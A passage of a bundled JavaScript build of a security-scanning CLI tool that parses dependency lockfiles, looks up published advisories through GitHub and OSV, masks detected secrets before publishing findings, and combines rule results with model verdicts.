        const head = /^"?((?:@[^@/"\s]+\/)?[^@"\s]+)@[^\n]*:\s*$/.exec(line)?.[1];
        if (head !== undefined)
            name = head;
        const version = /^ {2}version:? "?([^"\s]+)"?\s*$/.exec(line)?.[1];
        if (version === undefined || name === '')
            continue;
        if (version !== '0.0.0-use.local')
            found.push({ name, version });
        name = '';
    }
    return found;
};
/** `/a/1.2.3`, `/a@1.2.3(peer@2)`, `a@1.2.3`: by the version of the format. */
const readPnpm = text => (0,dist/* parseAllDocuments */.hR)(text, { logLevel: 'error' }).flatMap(document => {
    const lock = asObject('toJS' in document ? document.toJS({ maxAliasCount: 100 }) : {});
    return Object.keys(asObject(lock.packages)).flatMap(key => {
        const match = /^\/?((?:@[^/@]+\/)?[^/@]+)[/@]([^/_(@]+)/.exec(key);
        return match ? [{ name: match[1] ?? '', version: match[2] ?? '' }] : [];
    });
});
/** Only what is fixed by `==`. */
const readRequirements = text => text.split('\n').flatMap(line => {
    const match = /^\s*([A-Za-z0-9][\w.-]*)(?:\[[^\]]*\])?\s*==\s*([\w.+!-]+)/.exec(line);
    return match ? [{ name: normalPython(match[1] ?? ''), version: match[2] ?? '' }] : [];
});
const normalPython = (name) => name.toLowerCase().replace(/[-_.]+/g, '-');
const readPipfile = text => {
    const lock = asObject(JSON.parse(text));
    return ['default', 'develop'].flatMap(section => Object.entries(asObject(lock[section])).map(([name, entry]) => ({
        name: normalPython(name),
        version: asText(asObject(entry).version).replace(/^==/, ''),
    })));
};
/** `[[package]]` with `name = "a"` and `version = "1"`: poetry, uv, Cargo. */
const readTables = (nameOf, isOurs = () => true) => text => text
    .split(/^\[\[package\]\]\s*$/m)
    .slice(1)
    .flatMap(block => {
    const name = /^name\s*=\s*"([^"]+)"/m.exec(block)?.[1];
    const version = /^version\s*=\s*"([^"]+)"/m.exec(block)?.[1];
    return name !== undefined && version !== undefined && isOurs(block) ? [{ name: nameOf(name), version }] : [];
});
/** `module v1.2.3 h1:...`; the lines of go.mod files only say what was considered. */
const readGoSum = text => text.split('\n').flatMap(line => {
    const match = /^(\S+) v(\S+?)(?:\+incompatible)? h1:/.exec(line);
    return match && !match[2]?.endsWith('/go.mod') ? [{ name: match[1] ?? '', version: match[2] ?? '' }] : [];
});
/** Four blanks deep: what was chosen; deeper: what it asks for. */
const readGemfile = text => text.split('\n').flatMap(line => {
    const match = /^ {4}([\w.-]+) \(([\w.]+)(?:-[\w-]+)?\)\s*$/.exec(line);
    return match ? [{ name: match[1] ?? '', version: match[2] ?? '' }] : [];
});
const readComposer = text => {
    const lock = asObject(JSON.parse(text));
    return [...asList(lock.packages), ...asList(lock['packages-dev'])].map(entry => ({
        name: asText(entry.name),
        version: asText(entry.version).replace(/^v/, ''),
    }));
};
const isFromRegistry = (block) => /^source\s*=\s*"registry\+/m.test(block);
const read_lockfile_kinds = [
    [/(?:^|\/)(?:package-lock|npm-shrinkwrap)\.json$/, 'npm', readNpm],
    [/(?:^|\/)yarn\.lock$/, 'npm', readYarn],
    [/(?:^|\/)pnpm-lock\.yaml$/, 'npm', readPnpm],
    [/(?:^|\/)[\w.-]*requirements[\w.-]*\.txt$|(?:^|\/)requirements\/[\w.-]+\.txt$/, 'pip', readRequirements],
    [/(?:^|\/)Pipfile\.lock$/, 'pip', readPipfile],
    [/(?:^|\/)(?:poetry|uv)\.lock$/, 'pip', readTables(normalPython)],
    [/(?:^|\/)go\.sum$/, 'go', readGoSum],
    [/(?:^|\/)Cargo\.lock$/, 'rust', readTables(name => name, isFromRegistry)],
    [/(?:^|\/)Gemfile\.lock$/, 'rubygems', readGemfile],
    [/(?:^|\/)composer\.lock$/, 'composer', readComposer],
];

;// CONCATENATED MODULE: ./build/src/github/advisories.js

/** Longest list of packages in one address. */
const maxAffectsCharacters = 4_000;
const maxAffectsPackages = 500;
/** What a change adds to the dependencies, with what is known against it. Throws GitHubError where the graph is off. */
const compareDependencies = async (github, { baseSha, headSha }) => {
    const { owner, repo } = github;
    const { data } = await github.request('GET /repos/{owner}/{repo}/dependency-graph/compare/{basehead}', {
        ...{ owner, repo, basehead: `${baseSha}...${headSha}` },
    });
    return data
        .filter(change => change.change_type === 'added')
        .flatMap(({ manifest, ecosystem, name, version, vulnerabilities }) => vulnerabilities.map(found => ({
        manifest,
        advisory: {
            id: found.advisory_ghsa_id,
            affected: { ecosystem, name, version },
            severity: advisorySeverity(found.severity),
            summary: found.advisory_summary,
            ...{ cwe: null, fixedIn: null, url: found.advisory_url },
        },
    })));
};
/** GitHub's global list, asked for exact versions. */
const findAdvisories = async (github, packages) => {
    const found = [];
    for (const batch of batchesOf(packages))
        found.push(...(await askFor(github, batch)));
    return found;
};
const askFor = async (github, batch) => {
    const ecosystem = batch[0]?.ecosystem ?? 'npm';
    const advisories = await github.paginate('GET /advisories', {
        ecosystem,
        affects: batch.map(({ name, version }) => `${name}@${version}`).join(','),
        per_page: 100,
    });
    return advisories.flatMap(advisory => {
        if (advisory.withdrawn_at)
            return [];
        const weak = advisory.vulnerabilities ?? [];
        return batch.flatMap((one) => {
            const hit = weak.find(({ package: of }) => of?.name?.toLowerCase() === one.name.toLowerCase() && of.ecosystem === ecosystem);
            if (!hit)
                return [];
            return [
                {
                    id: advisory.ghsa_id,
                    affected: one,
                    severity: advisorySeverity(advisory.severity),
                    summary: advisory.summary,
                    cwe: advisory.cwes?.[0]?.cwe_id ?? null,
                    fixedIn: hit.first_patched_version,
                    url: advisory.html_url,
                },
            ];
        });
    });
};
/** One ecosystem a batch, and no name twice in it: an answer names packages, not versions. */
const batchesOf = (packages) => {
    const batches = [];
    for (const one of packages) {
        const size = one.name.length + one.version.length + 2;
        let batch = batches.find(({ ecosystem, names, characters }) => ecosystem === one.ecosystem &&
            !names.has(one.name) &&
            names.size < maxAffectsPackages &&
            characters + size <= maxAffectsCharacters);
        if (!batch) {
            batch = { ecosystem: one.ecosystem, names: new Set(), characters: 0, packages: [] };
            batches.push(batch);
        }
        batch.names.add(one.name);
        batch.characters += size;
        batch.packages.push(one);
    }
    return batches.map(batch => batch.packages);
};

;// CONCATENATED MODULE: ./build/src/tasks/security/osv.js



/** Queries in one request (google.github.io/osv.dev/post-v1-querybatch). */
const batchSize = 1_000;
/** Each is a request of its own. */
const maxDetails = 200;
const timeoutMs = 30_000;
/** Published weaknesses of exact versions, from OSV. Rejects when it cannot be asked. */
const askOsv = async (packages, baseUrl) => {
    const url = baseUrl.replace(/\/+$/, '');
    const hits = [];
    for (let at = 0; at < packages.length; at += batchSize) {
        const batch = packages.slice(at, at + batchSize);
        const queries = batch.map(({ ecosystem, name, version }) => ({
            package: { name, ecosystem: osvEcosystems[ecosystem] },
            version,
        }));
        const answer = (await call(`${url}/v1/querybatch`, { queries }));
        for (const [index, affected] of batch.entries()) {
            for (const { id } of answer.results?.[index]?.vulns ?? [])
                if (typeof id === 'string')
                    hits.push({ id, affected });
        }
    }
    const details = new Map();
    const advisories = [];
    for (const { id, affected } of hits) {
        if (!details.has(id))
            details.set(id, details.size < maxDetails ? readDetail(url, id) : Promise.resolve({}));
        advisories.push(advisoryOf(id, affected, (await details.get(id)) ?? {}));
    }
    return advisories;
};
const readDetail = async (url, id) => (await call(`${url}/v1/vulns/${encodeURIComponent(id)}`));
const advisoryOf = (id, affected, detail) => {
    const own = detail.affected?.find(entry => entry.package?.name === affected.name);
    const fixed = own?.ranges
        ?.flatMap(range => range.events ?? [])
        .findLast(event => typeof event.fixed === 'string')?.fixed;
    const cwe = detail.database_specific?.cwe_ids?.[0];
    return {
        id: /^[\w.:-]{1,80}$/.test(id) ? id : 'an advisory',
        affected,
        severity: advisorySeverity(detail.database_specific?.severity),
        summary: typeof detail.summary === 'string' ? detail.summary : '',
        cwe: typeof cwe === 'string' && /^CWE-\d+$/.test(cwe) ? cwe : null,
        fixedIn: typeof fixed === 'string' ? fixed : null,
        url: null,
    };
};
const call = async (url, body) => {
    const init = body === undefined
        ? {}
        : { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) };
    const answer = await fetch(url, { ...init, signal: AbortSignal.timeout(timeoutMs), redirect: 'error' });
    if (answer.ok)
        return answer.json();
    throw new errors/* GitHubError */.y_('advisories', `${new URL(url).host} answered ${answer.status}`, {
        hint: 'Check `security.osvUrl`.',
    });
};

;// CONCATENATED MODULE: ./build/src/tasks/security/find-vulnerable.js







/**
 * Published weaknesses of dependencies that the change adds or moves, or, in a full scan, of all. Where they cannot be looked
 * up a note says so; nothing is taken for harmless because nobody was asked.
 */
const findVulnerable = async (context, subject, files) => {
    const { advisories } = context.options.security;
    if (advisories === 'off')
        return { candidates: [], notes: ['Advisories of dependencies were not looked up: `security.advisories: off`.'] };
    const { github } = context;
    const { baseSha, headSha, pullRequest } = subject;
    if (advisories === 'github' && github !== null && pullRequest !== null && !subject.everything && baseSha && headSha) {
        try {
            const found = await compareDependencies(github, { baseSha, headSha });
            return {
                candidates: candidatesOf(found.map(({ manifest, advisory }) => [manifest, advisory]), subject, files),
                notes: [],
            };
        }
        catch (error) {
            if (!(error instanceof errors/* AppError */.uV))
                throw error;
            context.log.info(`GitHub compares no dependencies here; the lock files are read instead (${error.message})`);
        }
    }
    const { locked, notes } = await readLocked(subject, files);
    const packages = [...new Map(locked.flatMap(({ packages }) => packages).map(one => [keyOf(one), one])).values()];
    if (packages.length === 0)
        return { candidates: [], notes };
    if (advisories === 'github' && github === null) {
        const note = `${packages.length} locked packages were not looked up: there is no GitHub here; set \`security.advisories: osv\`.`;
        return { candidates: [], notes: [...notes, note] };
    }
    try {
        const asked = advisories === 'osv' || github === null
            ? await askOsv(packages, context.options.security.osvUrl)
            : await findAdvisories(github, packages);
        const pairs = locked.flatMap(({ path, packages: own }) => {
            const keys = new Set(own.map(keyOf));
            return asked
                .filter(({ affected: { ecosystem, name, version } }) => keys.has(`${ecosystem} ${name}@${version}`))
                .map((advisory) => [path, advisory]);
        });
        context.log.info(`Advisories: ${packages.length} locked packages looked up, ${asked.length} hits`);
        return { candidates: candidatesOf(pairs, subject, files), notes };
    }
    catch (error) {
        const why = error instanceof Error ? error.message : String(error);
        return { candidates: [], notes: [...notes, `${packages.length} locked packages could not be looked up: ${why}`] };
    }
};
const candidatesOf = (pairs, subject, files) => pairs.map(([path, advisory]) => {
    const file = files.find(candidate => candidate.path === path);
    return advisoryCandidate(advisory, path, file && scannedFile(file, subject.everything));
});
const readLocked = async ({ readHead, readBase, everything }, files) => {
    const locked = [];
    const notes = [];
    for (const { path, status } of files) {
        if (status === 'deleted' || !isLockfile(path))
            continue;
        const text = await readHead(path);
        const head = text === null ? null : readLockfile(path, text);
        if (head === null || !head.readable) {
            notes.push(`The packages of the lock file ${JSON.stringify(path)} were not looked up: it could not be read.`);
            continue;
        }
        const before = everything ? null : await readBase(path);
        const known = new Set((before === null ? [] : (readLockfile(path, before)?.packages ?? [])).map(keyOf));
        locked.push({ path, packages: head.packages.filter(one => !known.has(keyOf(one))) });
    }
    return { locked, notes };
};

// EXTERNAL MODULE: ./build/src/github/git.js
var git = __webpack_require__(19629);
// EXTERNAL MODULE: ./build/src/github/local-change.js
var local_change = __webpack_require__(6075);
;// CONCATENATED MODULE: ./build/src/github/read-file.js

/** A file's text as it is at a commit, or null when there is none. Up to 1 MB. */
const readFileAt = async (github, path, ref) => {
    const { request, owner, repo } = github;
    try {
        const { data } = await request('GET /repos/{owner}/{repo}/contents/{path}', { owner, repo, path, ref });
        if (Array.isArray(data) || data.type !== 'file' || !('content' in data))
            return null;
        return Buffer.from(data.content, 'base64').toString('utf8');
    }
    catch (error) {
        if (error instanceof errors/* GitHubError */.y_ && error.status === 404)
            return null;
        throw error;
    }
};

// EXTERNAL MODULE: ./build/src/tasks/review/gather-change.js + 1 modules
var gather_change = __webpack_require__(86861);
// EXTERNAL MODULE: ./build/src/tasks/show-head.js
var show_head = __webpack_require__(94846);
;// CONCATENATED MODULE: ./build/src/tasks/security/gather-subject.js







/** A pull request's change; without one, or with `full`, the whole checkout. */
const gatherSubject = async (context) => {
    const { event, github, options } = context;
    const isChange = event === null ? options.files.length === 0 : (0,gather_change/* pullRequestOf */._)(event) !== null;
    if (options.security.full || !isChange)
        return gatherEverything(context);
    const change = await (0,gather_change/* gatherChange */.M)(context);
    await (0,show_head/* showHead */.U)(context, change);
    const { pullRequest, headSha, baseSha } = change;
    if (pullRequest !== null && github !== null) {
        return { ...change, everything: false, readHead: fileAt(github, headSha), readBase: fileAt(github, baseSha) };
    }
    const readBase = async (path) => baseSha === null ? null : (0,git/* git */.$)(context.directory, ['show', `${baseSha}:./${path}`]).catch(() => null);
    return { ...change, everything: false, readHead: path => (0,read_tree_file/* readTreeFile */.x)(context.directory, path), readBase };
};
/** What is not allowed, or larger than the API gives, is not there. */
const fileAt = (github, sha) => async (path) => {
    if (sha === null)
        return null;
    try {
        return (await readFileAt(github, path, sha)) || null;
    }
    catch (error) {
        if (error instanceof errors/* GitHubError */.y_ && error.code === 'forbidden')
            return null;
        throw error;
    }
};
/** The checkout, its files whole. A pull request's is named, so that the result has somewhere to go. */
const gatherEverything = async (context) => {
    const { options, event, github, work } = context;
    const globs = options.files.length > 0 ? options.files : ['**/*'];
    const inPullRequest = event !== null && github !== null && (0,gather_change/* pullRequestOf */._)(event) !== null;
    const change = inPullRequest ? await (0,gather_change/* gatherChange */.M)(context) : null;
    if (change !== null)
        await (0,show_head/* showHead */.U)(context, change);
    const directory = change !== null && work.isCopy ? work.directory : context.directory;
    const local = await (0,local_change/* readLocalChange */.U)(directory, { base: '', files: globs });
    return {
        ...{ label: 'The whole repository', title: 'The whole repository', description: '', source: 'git' },
        files: local?.files ?? [],
        headSha: change?.headSha ?? local?.headSha ?? null,
        baseSha: change?.baseSha ?? null,
        pullRequest: change?.pullRequest ?? null,
        everything: true,
        readHead: path => (0,read_tree_file/* readTreeFile */.x)(directory, path),
        readBase: github === null || change === null ? async () => null : fileAt(github, change.baseSha),
    };
};

// EXTERNAL MODULE: ./build/src/tasks/task.js
var task = __webpack_require__(17791);
;// CONCATENATED MODULE: ./build/src/tasks/security.js


















/**
 * Security of a change or of everything: secrets, rules and advisories first; the model verifies those and finds what they
 * miss. What the rules found is published whatever becomes of the model.
 */
const securityTask = {
    id: 'security',
    run: async (context) => {
        const { log, options } = context;
        const subject = await gatherSubject(context);
        const { files: chosen, excluded } = (0,filter_files/* filterFiles */.U)(subject.files, options);
        log.info(`${subject.label}: ${chosen.length} files, ${excluded.length} left out`);
        const base = placeOf(subject);
        if (chosen.length === 0)
            return { ...base, outcome: 'skipped', code: 'nothing_to_review', reason: 'There is no file to look at.' };
        const baseline = await baselineOf(context, subject);
        const { files, candidates: leaks, secrets } = (0,redact_leaks/* redactLeaks */.c)(chosen, subject.everything);
        const safe = createMask(secrets);
        const scan = scanFiles(files, { everything: subject.everything, wholes: await wholesOf(subject, chosen, safe) });
        const vulnerable = await findVulnerable(context, subject, files);
        const candidates = [...leaks, ...scan.candidates, ...vulnerable.candidates];
        const numbered = candidates.map((candidate, index) => ({ id: `c${index + 1}`, candidate }));
        log.info(`Rules: ${leaks.length} secrets, ${scan.candidates.length} risky calls, ${vulnerable.candidates.length} advisories`);
        const { title, description, everything } = subject;
        const asked = options.security.model
            ? await askModel(context, { title: safe(title), description: safe(description), everything, files }, numbered)
            : noAnswer;
        if (asked.failure?.outcome === 'failed')
            return { ...base, turns: asked.turns, ...asked.failure };
        const model = masked(asked, safe);
        const texts = await textsOf(context, model.findings, safe);
        const { proven, dropped } = keepProven(model.findings, { files, candidates, texts });
        const findings = [
            ...numbered.map(({ id, candidate }) => judged(candidate, model.verdicts.get(id), options.security.dismiss)),
            ...proven,
        ].map(finding => maskedFinding(finding, safe));
        const review = { summary: '', findings, unusable: [...model.unusable, ...dropped] };
        const plan = arrange((0,plan_review/* planReview */.K)(review, files, options), {
            baseline,
            reveals: ({ finding, range }) => {
                const named = ({ path }) => path === finding.path;
                const versions = { original: chosen.find(named), redacted: files.find(named) };
                return range !== null && hunkReveals(versions, { side: finding.side, endLine: range.endLine });
            },
        });
        for (const { reason } of dropped)
            log.info(`A finding of the model is left out: ${reason}`);
        const told = countsOf(plan);
        const summary = [...model.summaries, told].filter(text => text !== '').join('\n\n');
        const omitted = [
            ...scan.omitted,
            ...model.omitted,
            ...excluded.map(({ path }) => ({ path, reason: 'left out by include/exclude' })),
        ];
        const incomplete = model.failure !== null;
        const notes = [
            ...(everything ? [] : (0,agent_file_notes/* agentFileNotes */.b)(context, chosen)),
            ...vulnerable.notes,
            ...(options.security.model ? [] : ['No model was asked: only rules have looked.']),
            ...(model.failure?.reason ? [`Incomplete: ${model.failure.reason}`] : []),
        ];
        for (const note of notes)
            log.warn(note);
        const { failure: refused, ...published } = await (0,publish_findings/* publishFindings */.I)(context, {
            ...{
                task: 'security',
                pullRequest: subject.pullRequest,
                headSha: subject.headSha,
                files,
                plan,
                omitted,
                notes,
                incomplete,
            },
            summary,
        });
        await updateBaseline(context, published.findings);
        const outcome = refused ?? model.failure ?? verdictOf(plan);
        const full = [summary, ...notes, ...omittedText(omitted)].filter(text => text !== '').join('\n\n');
        return { ...base, turns: model.turns, ...published, ...outcome, summary: full };
    },
};
const noAnswer = {
    ...{ summaries: [], verdicts: new Map(), findings: [], unusable: [], omitted: [], turns: 0, failure: null },
};
/** What is published holds neither a secret that was found nor anything that has the shape of one. */
const createMask = (secrets) => {
    const search = (0,find_secrets/* createSecretSearch */.p)(secrets);
    return text => (0,mask_secrets/* maskSecrets */.Q)(search, text);
};
const masked = (answer, safe) => ({ ...answer, summaries: answer.summaries.map(safe) });
const maskedFinding = (finding, safe) => {
    const entries = Object.entries(finding).map(([name, value]) => [
        name,
        typeof value === 'string' ? safe(value) : value,
    ]);
    return { ...Object.fromEntries(entries), path: finding.path };
};
/** Workflows and Dockerfiles show their flaws only whole. A full scan has them whole anyway. */
const wholesOf = async (subject, files, safe) => {
    const wholes = new Map();
    if (subject.everything)
        return wholes;
    const wanted = files.filter(({ path, status }) => needsWhole(path) && status !== 'deleted' && status !== 'added');
    for (const { path } of wanted.slice(0, 50)) {
        const text = await subject.readHead(path);
        if (text !== null)
            wholes.set(path, safe(text));
    }
    return wholes;
};
/** Files outside the diff that the model quotes. */
const textsOf = async ({ work }, findings, safe) => {
    const texts = new Map();
    for (const path of new Set(findings.map(finding => finding.path.replace(/^\.?\/+/, '')))) {
        const text = texts.size < 200 ? await (0,read_tree_file/* readTreeFile */.x)(work.directory, path) : null;
        if (text !== null)
            texts.set(path, safe(text));
    }
    return texts;
};
/** GitHub takes more, but not all at once. */
const maxFileComments = 10;
/**
 * Known ones are in the result, and nowhere else; dismissed ones are told, but not on their lines; nor are those beside a
 * secret: GitHub puts the lines above a comment into its e-mails.
 */
const arrange = (plan, { baseline, reveals }) => {
    let onFiles = plan.counts.file;
    const placed = plan.placed.map((entry) => {
        const { finding, place } = entry;
        if (baseline.has(finding.fingerprint))
            return moved({ ...entry, finding: { ...finding, known: true } }, 'none', 'in the baseline');
        if (finding.dismissed !== undefined && place !== 'none')
            return moved(entry, 'summary', 'the model takes it for no danger');
        if (place === 'inline' && reveals(entry))
            return moved(entry, onFiles++ < maxFileComments ? 'file' : 'summary', 'not on its line: e-mails would repeat a secret');
        return entry;
    });
    const { received, unusable } = plan.counts;
    return { ...plan, placed, counts: (0,count_findings/* countFindings */.G)(placed, { received, unusable }) };
};
const moved = (entry, place, reason) => ({
    ...entry,
    place,
    reason,
    finding: { ...entry.finding, published: place },
});
const countsOf = ({ placed }) => {
    const known = placed.filter(({ finding }) => finding.known === true).length;
    const dismissed = placed.filter(({ finding }) => finding.dismissed !== undefined && finding.known !== true).length;
    return [
        known > 0 ? `${known} known from the baseline.` : '',
        dismissed > 0 ? `${dismissed} that the model takes for no danger.` : '',
    ]
        .filter(text => text !== '')
        .join(' ');
};
const verdictOf = ({ placed }) => {
    const open = placed.some(({ finding }) => finding.known !== true && finding.dismissed === undefined);
    return { outcome: open ? 'findings' : 'clean', code: null, reason: null };
};
const maxOmittedTold = 50;
const omittedText = (omitted) => {
    if (omitted.length === 0)
        return [];
    const lines = omitted
        .slice(0, maxOmittedTold)
        .map(({ path, reason }) => `- \`${path.replaceAll('`', "'").replace(/\s+/g, ' ')}\`: ${reason}`);
    const rest = omitted.length > maxOmittedTold ? `\n- and ${omitted.length - maxOmittedTold} more` : '';
    return [`Not looked at, or not whole:\n\n${lines.join('\n')}${rest}`];
};
const placeOf = (subject) => ({
    ...task/* emptyReport */._,
    pullRequest: subject.pullRequest?.number ?? null,
    pullRequestUrl: subject.pullRequest?.url ?? null,
    headSha: subject.headSha,
    baseSha: subject.baseSha,
});

// EXTERNAL MODULE: ./build/src/cli/findings-report.js
var findings_report = __webpack_require__(7951);
// EXTERNAL MODULE: ./build/src/cli/run-task.js + 29 modules
var run_task = __webpack_require__(67);
// EXTERNAL MODULE: ./build/src/cli/run-without-agent.js
var run_without_agent = __webpack_require__(11920);
;// CONCATENATED MODULE: ./build/src/cli/commands/security.js






const defaultBaseline = '.github/claude-router-baseline.json';
const command = {
    name: 'security',
    summary: 'look for secrets, risky calls and weak dependencies',
    flags: {
        ...run_task/* runFlags */.lM,
        full: { type: 'boolean', description: 'look at the whole repository instead of the changes' },
        base: {
            type: 'string',
            value: 'REF',
            description: 'compare with this branch, tag or commit (default: the upstream or main branch)',
        },
        files: { type: 'string', value: 'GLOB', description: 'look at whole files that match instead of changes' },
        baseline: { type: 'string', value: 'FILE', description: 'findings in it are known and block nothing' },
        'update-baseline': {
            type: 'boolean',
            description: `write what is found into the baseline (default ${defaultBaseline})`,
        },
        'no-model': { type: 'boolean', description: 'only rules and advisories; needs neither provider nor key' },
        ...findings_report/* reportFlags */.kY,
    },
    examples: [
        'claude-router security --base main --fail-on high',
        'claude-router security --full --no-model --format sarif --output results.sarif',
        'claude-router security --full --update-baseline',
    ],
    run: async (invocation) => {
        const { text, is } = invocation;
        const { format, failOn } = (0,findings_report/* readReportFlags */.qj)(invocation);
        const files = text('files');
        const isUpdate = is('update-baseline');
        const baseline = text('baseline');
        if (baseline?.trim() === '')
            throw new errors/* ConfigError */.xL('usage', '--baseline needs a file', { hint: 'Write --baseline known.json.' });
        const noModel = is('no-model');
        const security = {
            ...(is('full') && { full: true }),
            ...(noModel && { model: false }),
            ...(baseline !== undefined && { baseline }),
            ...(isUpdate && { updateBaseline: true, fallbackBaseline: defaultBaseline }),
        };
        const given = { base: text('base') ?? '', files: files === undefined ? [] : [files], failOn, security };
        const run = noModel
            ? await (0,run_without_agent/* runTaskWithoutAgent */.U)(invocation, securityTask, given)
            : await (0,run_task/* runTaskLocally */.PP)(invocation, securityTask, given);
        // What was just accepted is no reason to fail.
        return (0,findings_report/* reportFindings */.LH)(invocation, run, {
            format,
            failOn: isUpdate ? 'none' : (0,task_options/* failOnOf */.t)(run.config, 'security', failOn),
        });
    },
};


/***/ }),

/***/ 11920:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ runTaskWithoutAgent)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(73024);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(51455);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(48161);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(76760);
/* harmony import */ var _config_load_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(22771);
/* harmony import */ var _run_result_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(12798);
/* harmony import */ var _run_task_options_js__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(3437);
/* harmony import */ var _run_work_open_work_js__WEBPACK_IMPORTED_MODULE_8__ = __webpack_require__(14157);
/* harmony import */ var _run_task_js__WEBPACK_IMPORTED_MODULE_9__ = __webpack_require__(67);










const noAgent = async () => {
    throw new Error('This run has no agent');
};
/** A task that asks no model, on the folder at hand: neither provider nor key is needed, and nothing is started. */
const runTaskWithoutAgent = async ({ cwd, env, text, terminal }, task, given) => {
    const started = Date.now();
    const directory = (0,node_fs__WEBPACK_IMPORTED_MODULE_1__.mkdtempSync)((0,node_path__WEBPACK_IMPORTED_MODULE_4__.join)((0,node_os__WEBPACK_IMPORTED_MODULE_3__.tmpdir)(), 'claude-router-'));
    try {
        const { config } = await (0,_config_load_js__WEBPACK_IMPORTED_MODULE_5__/* .loadConfig */ .Z)({
            ...{ explicit: text('config'), cwd, env, home: env.HOME ?? env.USERPROFILE ?? '', callsNobody: true },
        });
        const { log } = terminal;
        const report = await task.run({
            ...{ directory: cwd, event: null, github: null, serverUrl: 'https://github.com', runKey: 'local' },
            options: (0,_run_task_options_js__WEBPACK_IMPORTED_MODULE_7__/* .taskOptions */ .S)(config, given),
            instruction: '',
            isForeign: false,
            work: await (0,_run_work_open_work_js__WEBPACK_IMPORTED_MODULE_8__/* .openWork */ .Q)({
                ...{
                    directory: cwd,
                    folder: directory,
                    world: undefined,
                    openWorld: async () => undefined,
                    remote: null,
                    trustedSha: null,
                },
                ...{ redact: text => text, log },
            }),
            outputDirectory: directory,
            contextWindow: undefined,
            spentUsd: async () => 0,
            askAgent: noAgent,
            nonce: (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.randomBytes)(6).toString('hex'),
            log,
        });
        const result = (0,_run_result_js__WEBPACK_IMPORTED_MODULE_6__/* .resultOf */ .Bg)(report, {
            ...{ task: task.id, repository: null, target: null, ledger: [], durationMs: Date.now() - started },
            ...{ isolationMode: 'no agent', claudeCodeVersion: null },
        });
        return { result, config, sarif: await (0,_run_task_js__WEBPACK_IMPORTED_MODULE_9__/* .sarifOf */ .$6)(report) };
    }
    finally {
        await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.rm)(directory, { recursive: true, force: true });
    }
};


/***/ }),

/***/ 93736:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Cn: () => (/* binding */ isComment),
/* harmony export */   MH: () => (/* binding */ isTestCode),
/* harmony export */   UK: () => (/* binding */ isGenerated),
/* harmony export */   eX: () => (/* binding */ languageOf)
/* harmony export */ });
const byEnding = [
    [/\.(?:[cm]?[jt]sx?|vue|svelte|astro)$/i, 'javascript'],
    [/\.(?:pyw?|ipynb)$/i, 'python'],
    [/\.(?:java|kts?|scala|groovy)$/i, 'jvm'],
    [/\.go$/i, 'go'],
    [/\.(?:rb|erb|rake)$/i, 'ruby'],
    [/\.(?:php|phtml)$/i, 'php'],
    [/\.(?:cs|cshtml|vb)$/i, 'dotnet'],
    [/\.(?:c|cc|cpp|cxx|h|hpp|rs)$/i, 'native'],
    [/\.(?:sh|bash|zsh|ksh)$/i, 'shell'],
    [/(?:^|\/)(?:Dockerfile|Containerfile)[^/]*$|\.dockerfile$/i, 'docker'],
    [/(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$|(?:^|\/)action\.ya?ml$/i, 'workflow'],
    [/\.(?:tf|tofu|hcl)$/i, 'terraform'],
    [/\.(?:ya?ml|json)$/i, 'yaml'],
    [/\.(?:html?|ejs|hbs|jinja2?|twig)$/i, 'markup'],
];
/** null: no rule is for it; secrets are looked for all the same. */
const languageOf = (path) => byEnding.find(([pattern]) => pattern.test(path))?.[1] ?? null;
const hash = /^\s*#/;
const slashes = /^\s*(?:\/\/|\/\*|\*(?:\s|\/|$))/;
const comments = {
    javascript: [slashes],
    python: [hash],
    jvm: [slashes],
    go: [slashes],
    ruby: [hash],
    php: [hash, slashes],
    dotnet: [slashes],
    native: [slashes],
    shell: [hash],
    docker: [hash],
    workflow: [hash],
    terraform: [hash, slashes],
    yaml: [hash],
    markup: [/^\s*<!--/],
};
/** A line that is a comment as a whole. */
const isComment = (line, language) => comments[language].some(pattern => pattern.test(line));
/** Made by a tool: hashes and bundles, where rules find only noise. */
const isGenerated = (path) => /(?:^|\/)(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lock|poetry\.lock|uv\.lock|Pipfile\.lock|go\.sum|Cargo\.lock|Gemfile\.lock|composer\.lock|packages\.lock\.json)$|\.(?:min\.(?:js|css)|map|snap)$|(?:^|\/)(?:node_modules|vendor|dist)\//i.test(path);
/** Code that never meets an attacker, as its path tells. */
const isTestCode = (path) => /(?:^|\/)(?:tests?|__tests__|specs?|fixtures?|testdata|__mocks__|mocks?|examples?|samples?)\/|[._-](?:test|spec)\.\w+$|(?:^|\/)test_[^/]+\.py$|_test\.go$/i.test(path);


/***/ }),

/***/ 60036:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  c: () => (/* binding */ redactLeaks)
});

// EXTERNAL MODULE: ./build/src/core/diff/diff.js
var diff = __webpack_require__(45774);
// EXTERNAL MODULE: ./build/src/core/secrets/key-patterns.js
var key_patterns = __webpack_require__(5726);
;// CONCATENATED MODULE: ./build/src/core/secrets/find-keys.js

/** Everything in a text that has the shape of a key, in order; of two that overlap the first, of two at one place the longer. */
const findKeys = (text) => {
    const all = key_patterns/* keyPatterns */.j
        .filter(({ sign }) => sign.some(part => text.includes(part)))
        .flatMap(({ name, pattern }) => [...text.matchAll(pattern)].map(match => {
        const end = match.index + match[0].length;
        const start = match.index + (match[1]?.length ?? 0);
